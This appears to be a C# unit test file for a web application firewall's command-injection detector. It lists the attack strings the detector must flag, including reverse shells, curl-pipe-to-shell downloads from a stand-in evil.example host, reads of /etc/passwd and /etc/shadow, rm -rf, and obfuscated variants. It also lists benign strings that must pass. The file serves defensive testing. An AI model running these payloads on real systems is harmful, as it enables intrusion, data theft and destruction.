using Sakimori.Waf.Detectors;

namespace Sakimori.Waf.Tests.Detectors;

public sealed class CommandInjectionTests
{
    private static readonly DetectorSpecification Detector = new(CommandInjection.DetectUnfiltered, CommandInjection.MayDetect);

    [Fact]
    public void Commands_after_a_separator_are_found() => Detector.Finds(
        39,
        "a\n   cat /etc/passwd", "a\nx=`cat $IFS/etc/passwd`", "a | awk 'BEGIN { system(\"id\") } ; { x }'",
        "a'# ; id", "x;# y\n;id", "rm -rf $HOME/x", "a\nx=`curl http://evil.example/`", "a\nx=`echo a > /var/www/x.php`", "x | grep root /etc/passwd", "x; sed p /etc/shadow", "x && awk 1 /etc/passwd", "; id", ";id", "a|id", "a;id|", "x && whoami", "x || uname -a", "x & ipconfig /all", "'; cat /etc/passwd #",
        "\"; ls -la; \"", "a);id;", "| /bin/sleep 31 ;", "8.8.8.8; nc 10.0.0.1 4444", "8.8.8.8|type C:\\boot.ini",
        "& ping -n 10 127.0.0.1 &", "1;curl evil.example/x.sh|sh", "x;wget http://evil.example/a -O /tmp/a",
        "file.txt; rm -rf /tmp/x", "x | nslookup abc.evil.example", "a;sleep 5", "a&&timeout 10", "x;echo vulnerable",
        "a;sudo id", "a;X=1 id", "||whoami||", "1|net user", "x;printenv", "x; (id)", "a\nid");

    [Fact]
    public void Substitutions_are_found() => Detector.Finds(
        8,
        "$(id)", "x$(sleep 5)y", "`id`", "foo`whoami`.evil.example", "$(curl http://evil.example/)", "<(cat /etc/passwd)",
        "\"`ping 127.0.0.1`\"", "{cat,/etc/passwd}");

    [Fact]
    public void Disguised_commands_are_the_commands_they_run() => Detector.Finds(
        15,
        ";c''at /etc/passwd", ";c\\at /etc/passwd", ";w\"h\"oami", ";who$@ami", ";/???/c?t /etc/passwd", "|/b?n/l?",
        ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "& w^h^oami", "a;'i'd", "%3bid", "a%0aid", "&#59;id;",
        "a%26%26whoami", "\\x3bid");

    [Fact]
    public void Whole_command_lines_with_one_use_are_found() => Detector.Finds(
        20,
        "cat /etc/passwd", "/usr/bin/id", "/bin/sh -c id", "id;", "nc -e /bin/sh 10.0.0.1 4444", "python -c 'import os'",
        "perl -e 'exec \"/bin/sh\"'", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "powershell -nop -enc SQBFAFgA",
        "cmd.exe /c dir", "C:\\Windows\\System32\\cmd.exe /c whoami", "ping -c 10 127.0.0.1", "dir c:",
        "rm -rf /var", "wget http://evil.example/x -O- | sh", "curl https://evil.example/i | bash",
        "echo aWQ= | base64 -d | sh", "certutil -urlcache -f http://evil.example/x.exe x.exe", "type C:\\Windows\\win.ini",
        "chmod 777 /tmp/x");

    [Fact]
    public void Idioms_are_found_anywhere() => Detector.Finds(
        9,
        "() { :;}; echo vulnerable", "<!--#exec cmd=\"id\"-->", "system('id')", ";passthru(\"cat /etc/passwd\");",
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
        "%COMSPEC% /c id", "%PATH:~0,1%whoami", "os.system(\"id\")", "0<&196;exec 196<>/dev/tcp/10.0.0.1/443");

    [Fact]
    public void Prose_lists_and_code_pass() => Detector.Passes(
        49,
        "(r'0b[01]+', Number),\n    (r'\\d+', Number),", "SYNOPSIS\n       openssl sess_id [-help]", "line=`echo $a | awk 'BEGIN { FS = \":\" } ; { print $2 }'`\nx", "for f in $(x \"$P\" | cut --delimiter=: --fields=1); do",
        "script=$(realpath \"$0\")\ndir=$(dirname \"$0\")", "cpu=`cat $dev/cpu`\nx",
        "cat and dog food; echo of her order", "# cd ./source; make install", "run it; echo $?", "/proc/[pid]/exe", "/etc/rc?.d/*", "/dev/tcp/host/port",
        "rm -rf ${base}", "rm -rf \"$TMPDIR\"", "subshells and from `bash -c'.", "local a\npath=`readlink -f $dev`",
        "cats & dogs", "R&D; see also Q&A", "A|B", "$(document).ready(function(){})", "$('#id').hide()",
        "use the `ls` command or `id` to check", "the `code` in `backticks`", "AT&T", "Tom & Jerry; date to be announced",
        "id;name;date", "id|name|type", "C; Python; Perl", "PHP & MySQL", "black; more to come", "O'Brien & Sons",
        "price: $5 | tax: $1", "a=1&id=2&sort=name", "Fish &amp; chips&nbsp;id", "the cat sat; sleep came", "I'd rather go",
        "who's there? find out", "x < y && y > z", "1 | 2 | 3", "true", "id", "'true'", "set up; host a party",
        "see man page; use curl and wget to fetch files from a server you trust", "c/ mayor 12; 3ºA", "C++ & C#",
        "日本語;テスト", "件名：見積の件；至急", "Make and Model");

    [Fact]
    public void A_word_longer_than_any_command_is_no_command() => Detector.Passes(
        2, $";{new string('a', 60)}/{new string('b', 60)}$IFS:x", $"{new string('%', 60)}\\{new string('c', 60)}${{IFS}}");

    [Fact]
    public void Cost_is_linear() => Detector.Is_linear(
        ";", ";id", "`", "$(", ";c''", ";\\", "{a,", "%3b", "&#59;", "${IFS", "/dev/tcp/", "system(", ";+", "| sudo ",
        "\n", "a b ", ";a=1 ", "(", ";(((", "iex(", "{ ", "{", "{a", "\nx=`echo a`", "a=$(echo ", "|awk ' ; ", "a; echo b", "; echo $?", "# a;id", "| grep a /etc/passwd", "\n   id", "(){", " (){", "%x:~", "<!--#", ";/???/");

    [Fact]
    public void Benign_values_allocate_nothing() => Detector.Allocates_nothing(
        "cats & dogs", "plain", "https://example.com/a?b=1&c=2", "the `ls` command; see also (1)", "件名：見積の件；至急", "50%25 off");

    [Fact]
    public void Prefilter_is_a_superset() => Detector.Prefilter_is_a_superset(
        ";", "|", "&", "`", "$(", "id", "whoami", " ", "cat", "/etc/passwd", "-c", "sh", "%3b", "ping", "dir", "c:", "\n",
        "sleep 5", "{cat,", "}", ")", "'", "\\", "^", "+", "${IFS}", "curl", "http://x/", "１", "；");

    /// <summary>Every command that has an abuse, with every argument that makes one, bare, in a sentence and behind a blank or a plus sign.</summary>
    [Fact]
    public void Prefilter_is_a_superset_for_abuse()
    {
        string[] commands =
        [
            "dir", "ping", "wget", "curl", "cat", "type", "chmod", "net", "net1", "reg", "wmic", "schtasks", "find", "rm", "nc", "cmd", "powershell", "pwsh",
            "iex", "Net.WebClient", "sudo net", "env dir", "DIR", "net.exe", "id", "sh", "python", "perl", "php", "certutil", "bitsadmin",
        ];
        string[] arguments =
        [
            "", "*", "*.txt", "c:", "~", ".", "777", "+x", "+s", "user", "localgroup", "add", "save", "process", "iex", "31 127.0.0.1", "Download", "boot.ini",
            "etc passwd", "win.ini", "-c", "/c", "-rf", "/create", "-exec", "://", "http://x",
        ];
        string[] tails = ["", " x", " 1", " the name of a user whom we do not know"];
        var cases = 0;
        foreach (var command in commands)
        {
            foreach (var value in from argument in arguments from tail in tails from blank in (string[])[" ", "\t", "+", "  "] select command + blank + argument + tail)
            {
                cases++;
                Assert.True(!CommandInjection.DetectUnfiltered(value, out var finding) || CommandInjection.MayDetect(value), $"{finding.Kind}: {value}");
            }
        }

        Assert.Equal(31 * 27 * 4 * 4, cases);
    }

    [Fact]
    public void Words_without_a_sign_are_no_command_line() => Detector.Passes(
        7, "dir *", "net user x", "chmod 777 x", "chmod +x a", "reg add foo", "wmic process list", "Net.WebClient Download");
}
